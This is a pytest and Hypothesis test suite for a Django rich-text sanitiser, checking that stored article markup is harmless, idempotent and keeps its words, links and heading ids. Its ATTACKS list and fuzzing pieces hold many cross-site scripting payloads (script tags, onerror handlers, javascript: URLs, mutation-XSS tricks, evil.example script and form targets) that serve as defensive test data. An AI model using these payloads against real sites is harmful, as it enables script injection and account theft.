"""Whatever goes in, nothing executable comes out; the words stay; and cleaning twice is cleaning once."""

import re
from html import escape
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import html as lxml_html

from blog.models import Article
from editorial import richtext
from editorial.publishing import publishable_models
from editorial.richtext import ATTRIBUTES, CLASSES, URL_SCHEMES, clean, editor_filter, link_address, plain_text
from editorial.textblocks import RESERVED_ID
from pages.models import StandingPage

# --- What may never come out ----------------------------------------------------------------------------------------


def assert_harmless(html: str) -> None:
    """Parses what was stored and looks at every element and attribute, by its own list rather than the code's."""
    tags = {
        "p", "h2", "h3", "h4", "ul", "ol", "li", "strong", "em", "sup", "sub", "br", "a", "blockquote", "table",
        "caption", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "img", "div", "abbr",
    }  # fmt: skip
    names = {"id", "href", "src", "alt", "width", "height", "class", "title", "scope", "colspan", "rowspan", "start"}
    for element in lxml_html.fragment_fromstring(html, create_parent="section").iterdescendants():
        assert element.tag in tags, html
        assert set(element.attrib) <= names, html
        for name in ("href", "src"):
            address = element.get(name, "")
            assert not re.search(r"[\x00-\x20\\]", address)
            assert urlsplit(address).scheme in ("", "http", "https", "mailto", "tel", "sms"), html
        if element.tag == "img":
            assert element.get("src", "/media/").startswith("/media/"), html
            assert ".." not in element.get("src", "")
        if element.get("class"):
            assert (element.tag, element.get("class")) in (("div", "callout"), ("p", "set-off")), html
    assert not re.search(
        r"<(?:script|style|iframe|object|embed|form|input|meta|base|link|svg|math)\b", html, re.IGNORECASE
    )
    assert "<!" not in html
    assert "<?" not in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=/media/images/a.png onerror=alert(1)>",
    "<img src=/media/../admin/logout/>",
    '<img src="/media/a.png?x" onload=alert(1)>',
    "<img src=//evil.example/media/a.png>",
    "<img src=/\\evil.example/media/a.png>",
    "<img srcset='https://evil.example/a.png 1x' src=/media/a.png>",
    "<p onclick=alert(1) style='background:url(javascript:alert(1))'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example' target=_blank>x</a>",
    "<a href='https://good.example@evil.example/'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://www.google.com/url?q=javascript:alert(1)'>x</a>",
    "<a href='https://www.google.com/url?q=https://www.google.com/url?q=data:x'>x</a>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><s><template><s><img src=x onerror=alert(1)>x</s></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x: onerror=alert(1)>",
    "<table><td><svg><foreignObject><iframe src=javascript:alert(1)>",
    "<a title='&lt;img src=x onerror=alert(1)&gt;'>x</a>",
    "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<html><head><base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'></head>x",
    "<body onload=alert(1) background=//evil.example/a.png>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>y</marquee>",
    "<div class='callout evil' id=main onclick=alert(1)>x</div><h2 id=main>y</h2><h2 id=' x'>z</h2>",
    "<p class='set-off callout'><div class=callout><div class=callout>x</div></div></p>",
    "<ol start='1 onclick=alert(1)'><li>x</ol><td colspan='2 onclick=alert(1)'>",
    "<link rel=stylesheet href=//evil.example><style>@import '//evil.example'</style>",
    "\ufeff<p>\u202ex\u0000\u0008</p>\ud800",
    "<p>" * 3000 + "deep",
    "<div><ul><li><table><td><blockquote><b>" * 40 + "deep",
    "<b>" * 500 + "x",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_come_out_harmless(attack: str) -> None:
    once = clean(attack)
    assert_harmless(once)
    assert clean(once) == once


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_makes_them_harmless_too(attack: str) -> None:
    """What reads the text first drops nearly all of it by itself; the last word must not depend on that."""
    assert_harmless(richtext._sanitiser.clean(attack.encode("utf-8", "ignore").decode().replace("\x00", "")))


PIECES = st.sampled_from(
    [
        "<p>", "</p>", "<div>", "</div>", "<div class=callout>", "<ul>", "<ol start=3>", "</ul>", "</ol>", "<li>",
        "</li>", "<table>", "<tr>", "<td>", "<th>", "</table>", "<thead>", "<caption>", "<b>", "</b>", "<i>",
        "</i>", "<a href=/x/>", "</a>", "<a href='javascript:alert(1)'>", "<h1>", "<h2 id=main>", "</h2>", "<h3>",
        "<blockquote>", "</blockquote>", "<figure>", "<figcaption>", "</figure>",
        "<img src=/media/images/a.png alt=x>", "<img src=//evil.example/a.png onerror=alert(1)>", "<br>", "<svg>",
        "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<!--", "-->", "<![CDATA[", "]]>",
        "<template>", "<noscript>", "<textarea>", "<title>", "<select>", "<form>", "<button>", "<mglyph>",
        "<mtext>", "<foreignObject>", "<p class=set-off>", "<abbr title='a\"b'>", "<sup>", "<sub>",
        "<span style='font-weight:700'>", "</span>", "<p style='mso-list:l0 level2 lfo1'>",
        "<span style='mso-list:Ignore'>1.</span>", "<li data-aria-level=2>", "<td colspan=3>", "- item",
        "\u2022 item", "words", " ", "\u00a0", "\n", "&lt;", "&amp;", "&nbsp;", "&#x3c;", "\"", "'", ">", "<",
        "[@ferraro-2025]",
    ]
)  # fmt: skip
MARKUP = st.lists(st.one_of(PIECES, st.text(max_size=6)), max_size=40).map("".join)


@given(MARKUP)
@example("<ul>loose<ul><li data-aria-level=2>x</li></ul></ul>")
@example("<table><caption><table><td>x</table></caption>")
def test_whatever_goes_in_nothing_executable_comes_out_and_twice_is_once(html: str) -> None:
    once = clean(html)
    assert_harmless(once)
    assert clean(once) == once


@given(st.text())
def test_any_text_at_all_comes_out_harmless(text: str) -> None:
    once = clean(text)
    assert_harmless(once)
    assert clean(once) == once


WORDS = st.text("abcdefghij <>&\"'", min_size=1, max_size=12).filter(lambda text: text.strip())
INLINE = st.builds(
    lambda tag, text: f"<{tag}>{escape(text)}</{tag.split()[0]}>",
    st.sampled_from(["strong", "b", "em", "span", "u", "a href='/x/'", "font color=red", "code", "sup"]),
    WORDS,
)
BLOCK = st.builds(
    lambda tag, inner: f"<{tag}>{''.join(inner)}</{tag.split()[0]}>",
    st.sampled_from(
        [
            "p",
            "h1",
            "h3",
            "h5",
            "div",
            "blockquote",
            "div class=callout",
            "section",
            "pre",
            "ul",
            "ul><li",
            "table><tr><td",
        ]
    ),
    st.lists(st.one_of(INLINE, WORDS.map(escape)), min_size=1, max_size=4),
)


@given(st.lists(BLOCK, max_size=6))
def test_no_word_is_lost(blocks: list[str]) -> None:
    html = "".join(blocks)
    written = lxml_html.fragment_fromstring(html, create_parent="div").text_content()
    stored = lxml_html.fragment_fromstring(clean(html), create_parent="div").text_content()
    assert "".join(stored.split()) == "".join(written.split())


# --- What it becomes ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given_", "stored"),
    [
        ("<h1>Title</h1>", '<h2 id="title">Title</h2>'),
        ("<h6>Small</h6>", '<h4 id="small">Small</h4>'),
        ("<h2><b>Bold</b> <i>slanted</i></h2>", '<h2 id="bold-slanted">Bold <em>slanted</em></h2>'),
        ("<p><b>a</b><b> </b><strong>b</strong> <i>c</i></p>", "<p><strong>a b</strong> <em>c</em></p>"),
        ("<p>a</p><p>&nbsp;</p><p> <br> </p><p><b></b></p><p>b</p>", "<p>a</p>\n<p>b</p>"),
        ("<p>10&nbsp;mg &nbsp; &nbsp; daily</p>", "<p>10&nbsp;mg daily</p>"),
        ("loose <b>words</b><p>and</p> more", "<p>loose <strong>words</strong></p>\n<p>and</p>\n<p>more</p>"),
        ("<p>a<br><br>b<br>c</p>", "<p>a</p>\n<p>b<br>c</p>"),
        ("<a href='/x/'><h2>L</h2><p>b</p></a>", '<h2 id="l"><a href="/x/">L</a></h2>\n<p><a href="/x/">b</a></p>'),
        ("<div class='callout'><p>Call 988</p></div>", '<div class="callout">\n<p>Call 988</p>\n</div>'),
        ("<p class='set-off other'>One.</p>", '<p class="set-off">One.</p>'),
        ("<ul><li><p>a</p></li><li><p>b</p><p>c</p></li></ul>", "<ul>\n<li>a</li>\n<li><p>b</p>\n<p>c</p></li>\n</ul>"),
        ("<table><tr><td>alone</td></tr></table>", "<p>alone</p>"),
        ("<p>- one</p><p>- two</p>", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("<p>- only one, so no list</p>", "<p>- only one, so no list</p>"),
        ("One.\n\nTwo,\nstill two.", "<p>One.</p>\n<p>Two,<br>still two.</p>"),
        ("<p>useful.[@ferraro-2025]</p>", "<p>useful.[@ferraro-2025]</p>"),
        ("<p>so<del>ld</del> <ins>it is</ins> H<sub>2</sub>O</p>", "<p>so it is H<sub>2</sub>O</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_markup_becomes_the_one_plain_form(given_: str, stored: str) -> None:
    assert clean(given_) == stored


def test_a_picture_of_ours_is_a_figure_with_its_caption() -> None:
    stored = clean("<p>a<img src='/media/images/a.png' alt='A hand' width=400 height=300 class=x>b</p>")
    figure = '<figure><img src="/media/images/a.png" alt="A hand" width="400" height="300"></figure>'
    assert stored == f"<p>a</p>\n{figure}\n<p>b</p>"
    captioned = "<figure><img src='/media/images/a.png' alt=''><figcaption>By <b>us</b></figcaption></figure>"
    assert "<figcaption>By <strong>us</strong></figcaption></figure>" in clean(captioned)


def test_a_picture_without_any_description_is_counted_and_a_decorative_one_is_not() -> None:
    missing, decorative = "<img src='/media/images/a.png'>", "<img src='/media/images/b.png' alt=''>"
    assert richtext.undescribed_pictures(clean(missing + decorative)) == 1


def test_pictures_from_elsewhere_are_dropped() -> None:
    for source in (
        "https://elsewhere.example/a.png",
        "data:image/png;base64,AAAA",
        "file:///c:/a.png",
        "/static/a.png",
        "blob:x",
    ):
        assert clean(f"<p>a <img src='{source}' alt='x'></p>") == "<p>a</p>"


# --- Links ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("address", "kept"),
    [
        ("https://www.nice.org.uk/x?a=1#b", "https://www.nice.org.uk/x?a=1#b"),
        ("http://example.org", "http://example.org"),
        ("mailto:hello@example.org", "mailto:hello@example.org"),
        ("tel:+12065550100", "tel:+12065550100"),
        ("sms:988", "sms:988"),
        ("/conditions/depression/", "/conditions/depression/"),
        ("#risks", "#risks"),
        ("www.example.org/a", "https://www.example.org/a"),
        ("//example.org/a", "https://example.org/a"),
        (f"{settings.SITE_URL}/about/", "/about/"),
        (settings.SITE_URL, "/"),
        ("https://example.org/?utm_source=x&id=7&fbclid=y", "https://example.org/?id=7"),
        ("https://www.google.com/url?q=https://example.org/&sa=D", "https://example.org/"),
        ("ftp://example.org/", None),
        ("page.html", None),
        ("#_ftn1", None),
        ("mailto:", None),
        ("https://", None),
        ("https://[", None),
        ("about:blank", None),
    ],
)
def test_links_lead_to_pages_people_and_phones_only(address: str, kept: str | None) -> None:
    assert link_address(address) == kept
    if kept is not None:
        assert link_address(kept) == kept


def test_links_open_in_the_same_window() -> None:
    assert (
        clean("<a href='https://example.org/' target=_blank rel=opener>x</a>")
        == '<p><a href="https://example.org/">x</a></p>'
    )


def test_the_text_of_a_forbidden_link_stays() -> None:
    assert clean("<p>see <a href='javascript:alert(1)'>this</a></p>") == "<p>see this</p>"


# --- Headings' ids --------------------------------------------------------------------------------------------------


def ids(html: str) -> list[str]:
    return re.findall(r' id="([^"]+)"', html)


def test_headings_get_ids_from_their_words_and_no_two_are_alike() -> None:
    assert ids(clean("<h2>What it is</h2><h3>Limits</h3><h2>What it is</h2><h2>???</h2>")) == [
        "what-it-is", "limits", "what-it-is-2", "section",
    ]  # fmt: skip


def test_an_id_stays_when_the_headings_words_change() -> None:
    stored = clean("<h2>What it is</h2>")
    assert ids(clean(stored.replace("What it is", "What this is"))) == ["what-it-is"]


def test_a_new_heading_does_not_take_the_id_of_one_that_was_there() -> None:
    stored = clean("<h2>Limits</h2>")
    assert ids(clean("<h2>Limits</h2>" + stored)) == ["limits-2", "limits"]


def test_a_copied_heading_does_not_keep_the_originals_id() -> None:
    stored = clean("<h2>Limits</h2>")
    assert ids(clean(stored + stored)) == ["limits", "limits-2"]


@pytest.mark.parametrize("words", ["Main", "Risks", "References", "Contents", "M1", "r12", "Menu", "Email", "Q"])
def test_no_heading_takes_an_id_that_the_page_uses(words: str) -> None:
    assert ids(clean(f"<h2>{words}</h2>")) == [f"{words.lower()}-2"]
    assert ids(clean(f'<h2 id="{words.lower()}">Other</h2>')) == ["other"]


def test_every_id_in_the_public_templates_is_reserved() -> None:
    """When this fails, add the template's new id to RESERVED_ID: else a heading could take it, and links go astray."""
    public = [path for path in Path(settings.BASE_DIR, "templates").rglob("*.html") if "admin" not in path.parts]
    assert public
    used = {name for path in public for name in re.findall(r'\sid="([a-z0-9-]+)"', path.read_text())}
    assert {name for name in used if not RESERVED_ID.fullmatch(name)} == set()


# --- The allow-list -------------------------------------------------------------------------------------------------


def test_the_editors_filter_says_what_the_allow_list_says() -> None:
    rules = {}
    for rule in editor_filter().split("; "):
        found = re.fullmatch(r"(\w+)(?:\[([^\]]*)\])?(?:\(([^)]*)\))?", rule)
        assert found, rule
        attributes, classes = (
            {name.lstrip("!") for name in (part or "").split(",") if name} for part in found.groups()[1:]
        )
        rules[found[1]] = (attributes, classes)
    assert rules == {tag: (names, CLASSES.get(tag, set())) for tag, names in ATTRIBUTES.items()}
    assert {"http", "https", "mailto", "tel", "sms"} == URL_SCHEMES


def test_all_that_is_allowed_passes() -> None:
    everything = (
        '<h2 id="a">A</h2>\n<h3 id="b">B</h3>\n<h4 id="c">C</h4>\n'
        '<p class="set-off">One <strong>two</strong> <em>three</em><sup>4</sup><sub>5</sub><br><a href="/x/">six</a> '
        '<abbr title="seven">7</abbr></p>\n<blockquote>\n<p>Said.</p>\n</blockquote>\n'
        '<div class="callout">\n<p>Boxed.</p>\n</div>\n<ul>\n<li>a</li>\n</ul>\n<ol start="3">\n<li>b</li>\n</ol>\n'
        "<table>\n<caption>T</caption>\n<thead>\n<tr>\n"
        '<th scope="col">x</th>\n<th scope="col" colspan="2">y</th>\n</tr>\n</thead>\n'
        '<tbody>\n<tr>\n<th scope="row" rowspan="2">r</th>\n<td colspan="2">z</td>\n</tr>\n</tbody>\n</table>\n'
        '<figure><img src="/media/images/a.png" alt="A" width="4" height="3"><figcaption>C</figcaption></figure>'
    )
    assert clean(everything) == everything


# --- The field ------------------------------------------------------------------------------------------------------

DIRTY, TIDY = "<p onclick=alert(1)>a<script>alert(1)</script></p>", "<p>a</p>"


@pytest.mark.django_db
def test_whichever_way_a_text_comes_in_it_is_stored_clean() -> None:
    page = StandingPage.objects.create(title="T", slug="t", body=DIRTY)
    assert page.body == TIDY

    def stored() -> str:
        return StandingPage.objects.values_list("body", flat=True).get()

    assert stored() == TIDY
    StandingPage.objects.update(body=DIRTY.replace("a<", "b<"))
    assert stored() == "<p>b</p>"
    page.body = DIRTY.replace("a<", "c<")
    StandingPage.objects.bulk_update([page], ["body"])
    assert stored() == "<p>c</p>"
    page.body = DIRTY.replace("a<", "d<")
    page.save_base(raw=True)  # as loaddata does
    assert stored() == "<p>d</p>"


def test_every_rich_text_is_such_a_field() -> None:
    for model in publishable_models():
        assert isinstance(model._meta.get_field("body"), richtext.RichTextField)


def test_the_forms_field_takes_an_empty_paragraph_for_nothing() -> None:
    field = Article._meta.get_field("body").formfield()
    field.required = True
    with pytest.raises(Exception, match="required"):
        field.clean("<p>&nbsp;</p>")


def test_a_text_that_only_the_editor_wrote_differently_has_not_changed() -> None:
    field = richtext.RichTextFormField()
    assert not field.has_changed("<p>a</p>\n<p>b</p>", "<p>a</p>\r\n\r\n<p>b</p>\r\n")
    assert field.has_changed("<p>a</p>", "<p>b</p>")


def test_migrations_name_the_field_alone() -> None:
    _name, path, _args, kwargs = Article._meta.get_field("body").deconstruct()
    assert path == "editorial.richtext.RichTextField"
    assert set(kwargs) <= {"verbose_name", "blank", "help_text"}


def test_plain_text_keeps_words_apart_and_leaves_citations_out() -> None:
    assert (
        plain_text("<p>One.[@a-2020]</p><ul><li>two</li><li>A &amp; B</li></ul>three<br>four")
        == "One. two A & B three four"
    )
    assert richtext.cited_keys("<p>x[@b-2021][@a-2020] y[@b-2021]</p>") == ["b-2021", "a-2020"]


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("One.\n\nTwo, p < 0.05.", "<p>One.</p><p>Two, p &lt; 0.05.</p>"),
        ("One, <strong>loud</strong>.\r\n\r\nTwo.", "<p>One, <strong>loud</strong>.</p><p>Two.</p>"),
        ("One, <strong>loud</strong>,\nof a program.", "<p>One, <strong>loud</strong>, of a program.</p>"),
        ("<p>One,\n\nstill one.</p>", "<p>One, still one.</p>"),
        ("One.\n\n<script>\n\nno()\n\n</script>Two.", "<p>One. Two.</p>"),
    ],
)
def test_empty_lines_part_a_text_that_has_no_blocks(typed: str, stored: str) -> None:
    assert clean(typed).replace("\n", "") == stored
